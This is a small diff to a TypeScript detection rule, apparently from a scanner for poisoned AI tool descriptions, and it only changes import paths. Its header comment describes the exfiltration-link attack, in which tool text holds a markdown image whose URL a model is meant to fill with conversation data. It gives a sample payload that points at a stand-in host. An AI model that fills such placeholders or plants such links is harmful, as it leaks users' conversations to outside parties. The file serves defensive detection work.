@@ -1,8 +1,8 @@
 // exfiltration-link: a markdown image or link in tool text whose URL carries a placeholder the model
 // is meant to fill with data (`![](https://x/?q={conversation})`): rendering the image sends it.
 
-import { analyzeTool } from '../poison/analyze.js';
-import { judgeLinks } from '../poison/params.js';
+import { analyzeTool } from '../../text/tool/analyze.js';
+import { judgeLinks } from '../../text/tool/params.js';
 import { reportJudgements } from '../poison/report.js';
 import type { Rule } from './types.js';
 
